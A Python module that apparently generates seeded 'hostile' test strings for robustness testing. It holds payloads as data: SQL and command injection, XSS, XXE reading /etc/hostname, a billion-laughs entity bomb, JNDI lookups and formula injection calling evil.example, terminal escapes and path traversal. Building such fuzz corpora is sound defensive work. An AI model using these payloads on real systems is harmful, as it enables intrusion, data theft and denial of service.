"""Texts that try to be more than text, the same ones for the same seed."""

import random
from collections.abc import Callable, Iterator, Sequence

ESC, BEL, CSI_C1, OSC_C1 = "\x1b", "\x07", "\x9b", "\x9d"
ENDS = (BEL, f"{ESC}\\", "\x9c", "")
"""What ends a control string, or nothing at all."""

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))

_FINALS = "@ABCDEFGHIJKLMPSTXZ`abcdefghilmnpqrstuxz{|}~"
_OSC = (
    "0;owned",
    "1;owned",
    "2;owned",
    "4;0;rgb:ff/00/00",
    "7;file://evil.example/",
    "8;;http://evil.example",
    "9;owned",
    "52;c;b3duZWQ=",
    "52;c;?",
    "133;A",
    "777;notify;owned;owned",
    "1337;File=inline=1:AAAA",
)
_STRINGS = ("P1$r0m", "Pq#0;2;0;0;0~~~", "P+q544e", "_Gf=100;AAAA", "^private", "Xstring")
_ESCAPES = ("c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "(0", ")B", "#8", "%@", "n", "o", " F")
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_NO_WIDTH = (
    "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2064\ufeff\ufff9\ufffb\u3164\uffa0"
)
_SPACES = (
    "\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000\x85"
)
_MARKS = (
    (0x300, 0x36F),
    (0x483, 0x489),
    (0x591, 0x5BD),
    (0x610, 0x61A),
    (0x93A, 0x94F),
    (0xE31, 0xE3A),
    (0x1AB0, 0x1ABE),
    (0x20D0, 0x20F0),
    (0xA66F, 0xA672),
    (0xFE20, 0xFE2F),
    (0x1D165, 0x1D169),
)
_WIDE = (
    "日本語",
    "ｆｕｌｌ",
    "👨\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e0062\U000e007f",
    "🇩🇪🇳",
    "👍🏽🏿",
    "1\ufe0f\u20e3",
    "☺\ufe0f❤\ufe0e",
    "\u1112\u1161\u11ab\u11ab",
    "한\u11a8",
    "①Ω±§",
    "\U0001f1e6",
    "🏽",
    "㋿🫨🪿",
    "ｶﾞ",
    "꧁꧂﷽𒐫",
)
_MARKUP = (
    "[red]x[/red]",
    "[/bold]",
    "[@click=app.quit]x[/]",
    "[link=http://evil.example]x[/link]",
    "\\[b]",
    "[",
    "[[",
    "[/]",
    "[on red blink]",
    ":skull:",
    "$primary",
    "[not closed",
    "[#ff0000]",
)
_SURROGATES = ("\ud800", "\udfff", "\udcff\udc80", "\udc00\ud800")
_NUMBERS = (
    "9" * 400,
    "-" + "9" * 30,
    "1e400",
    "-0",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x1F",
    "1_000",
    "٣٤٥",
    "1" + "0" * 5000,
)
_DATES = (
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00.000Z",
    "9999-12-31T23:59:59.999Z",
    "10000-01-01",
    "-0001-02-30",
    "2026-02-30",
    "0000-00-00",
    "2026-03-29T02:30:00+99:99",
)
_SQL = (
    "'; DROP TABLE event; --",
    "' OR '1'='1",
    '" UNION SELECT * FROM entry',
    "%_\\%",
    "$$;--",
    ":name ?1 @x",
    "x' || (SELECT 1) || '",
    "\\'; --",
    'NEAR("a" "b", 5) AND NOT c*',
)
_QUERIES = (
    "type:version.*",
    '"not closed',
    "-tso:*",
    "since:2h OR (",
    "::",
    "version:>3..<",
    "a:b:c:d",
    '\\"',
    "((((",
    "-",
)
_FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "＝1",
    "  =1",
    '=HYPERLINK("http://evil.example")',
    '",=1,"',
)
_PAGES = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "<svg/onload=alert(1)>",
    "</title></style><style>*{background:url(//evil.example)}",
    "<!-- --> ]]> <![CDATA[",
    "&lt;script&gt;&#x3c;&amp;",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "&#0;&#27;[31m&#8238;",
)
_MARKDOWN = (
    "[x](http://evil.example)",
    "![x](http://evil.example/y.png)",
    "| a | b |\n| - | - |",
    "```\ncode\n```",
    "`` ` ``",
    "<http://evil.example>",
    "http://evil.example www.evil.example a@evil.example",
    "# heading\n====\n---",
    "> quote\n- item\n1. one",
    "**bold** _em_ ~~gone~~ $math$",
    "[x]: http://evil.example\n[x][x]",
    "\\`\\[\\\\",
    "&nbsp;&copy;<details>",
    "@everyone #1 :+1:",
    "[^1] ==mark==",
)
_XML = (
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>',
    f"<!DOCTYPE l [{LAUGHS}]><l>&l9;</l>",
    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/hostname'/></x>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${jndi:ldap://evil.example/x}",
    "%s%n%x",
    "{0.__class__}",
    "{",
    "%(x)s",
    "$(id)`id`",
)
_PATHS = (
    "../../etc/passwd",
    "..\\..\\x",
    "/dev/null",
    "C:\\CON",
    "file:///etc/hostname",
    "~root/.ssh",
    "a/\0/b",
    "-rf",
)
_ODD = "\uffff\ufffe\ue000\U000f0000\U0010ffff\u0378\u2fe0\ufdd0\U000e0001\U000e0041\U000e0100\ufe0f\ufe00\u180b\u2800"

_MEGABYTE = 1_000_000


def _csi(chance: random.Random) -> str:
    start = chance.choice((f"{ESC}[", CSI_C1))
    numbers = ";".join(str(chance.randrange(300)) for _ in range(chance.randrange(4)))
    return (
        start
        + chance.choice(("", "", "?", ">", "="))
        + numbers
        + chance.choice(("", "", "", " ", "$"))
        + chance.choice(_FINALS)
    )


def _osc(chance: random.Random) -> str:
    text = chance.choice((f"{ESC}]", OSC_C1)) + chance.choice(_OSC) + chance.choice(ENDS)
    return text + f"click{ESC}]8;;{BEL}" * chance.randrange(2)


def _control_string(chance: random.Random) -> str:
    return chance.choice((ESC + chance.choice(_STRINGS), "\x90q~~", "\x98x", "\x9ex", "\x9fx")) + chance.choice(ENDS)


def _some(signs: str) -> Callable[[random.Random], str]:
    """Return what strews some of these signs among letters."""

    def strewn(chance: random.Random) -> str:
        return "".join(
            chance.choice((*"abc", chance.choice(signs))) for _ in range(chance.randrange(2, 12))
        ) + chance.choice(signs)

    return strewn


def _one(texts: Sequence[str]) -> Callable[[random.Random], str]:
    return lambda chance: chance.choice(texts)


def _flood(chance: random.Random) -> str:
    first, last = chance.choice(_MARKS)
    marks = "".join(chr(chance.randint(first, last)) for _ in range(chance.randrange(1, 60)))
    return chance.choice(("a", "", "日", "👍", " ")) + marks


def _long(chance: random.Random) -> str:
    # a megabyte now and then: what makes it dangerous is not how often it comes
    size = chance.choice((1_000, 2_000, 5_000, 20_000, _MEGABYTE if not chance.randrange(10) else 8_001))
    unit = chance.choice(("x", "long ", "日", "\u0301", "\u202e", f"{ESC}[H", "[b]", "👨\u200d", "\n"))
    return (unit * (size // len(unit) + 1))[:size]


def _nested(chance: random.Random) -> str:
    opening = chance.choice("[{(<")
    return opening * chance.choice((50, 500, 3000))


CLASSES: dict[str, Callable[[random.Random], str]] = {
    "csi": _csi,
    "osc": _osc,
    "control string": _control_string,
    "escape": lambda chance: ESC + chance.choice(_ESCAPES),
    "c0": _some("".join(map(chr, range(32))) + "\x7f"),
    "c1": _some("".join(map(chr, range(0x80, 0xA0)))),
    "bidirectional": _some(_BIDI),
    "no width": _some(_NO_WIDTH),
    "spaces": _some(_SPACES),
    "combining": _flood,
    "wide": _one(_WIDE),
    "markup": _one(_MARKUP),
    "surrogates": _one(_SURROGATES),
    "long": _long,
    "nested": _nested,
    "numbers": _one(_NUMBERS),
    "dates": _one(_DATES),
    "sql": _one(_SQL),
    "queries": _one(_QUERIES),
    "formulas": _one(_FORMULAS),
    "pages": _one(_PAGES),
    "markdown": _one(_MARKDOWN),
    "xml": _one(_XML),
    "templates": _one(_TEMPLATES),
    "paths": _one(_PATHS),
    "odd": _some(_ODD),
    "any": lambda chance: "".join(
        chr(chance.choice((chance.randrange(0x3000), chance.randrange(0x110000)))) for _ in range(6)
    ),
}
"""What makes a text of each kind."""


def hostile_strings(count: int, seed: int = 1, longest: int = _MEGABYTE) -> Iterator[str]:
    """Give so many hostile texts, every kind as often as the others; some stand between harmless words.

    Those that are nothing but long are cut at `longest` characters.
    """
    chance = random.Random(seed)
    kinds = list(CLASSES.values())
    for number in range(count):
        text = kinds[number % len(kinds)](chance)[:longest]
        for _ in range(chance.choice((0, 0, 0, 1, 2))):
            # what is as long as that is hostile enough by itself
            text += chance.choice(kinds)(chance) if len(text) < 100 else ""
        yield chance.choice(("", "", "a", "A54 ", "日")) + text + chance.choice(("", "", "z", " end"))
